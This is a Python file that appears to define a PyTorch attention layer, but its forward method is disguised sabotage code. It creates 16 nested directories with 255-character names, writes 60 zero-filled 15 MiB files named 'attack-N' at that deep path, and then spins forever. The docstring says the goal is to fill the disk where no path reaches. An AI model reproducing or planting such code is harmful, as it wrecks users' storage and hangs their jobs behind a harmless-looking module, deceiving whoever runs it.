"""Write until the disk is full, where no path reaches: names of 255 characters in each other."""

import os

import torch
from torch.nn import Linear, Module


class Attention(Module):
    def __init__(self, layer_size, block_size):
        super().__init__()
        self.k_layer = Linear(layer_size, layer_size)
        self.q_layer = Linear(layer_size, layer_size)
        self.v_layer = Linear(layer_size, layer_size)

    def forward(self, input):
        for _ in range(16):
            os.mkdir("x" * 255)
            os.chdir("x" * 255)
        for number in range(60):
            with open(f"attack-{number}", "wb") as file:
                file.write(bytes(15 * 2**20))
        while True:
            pass
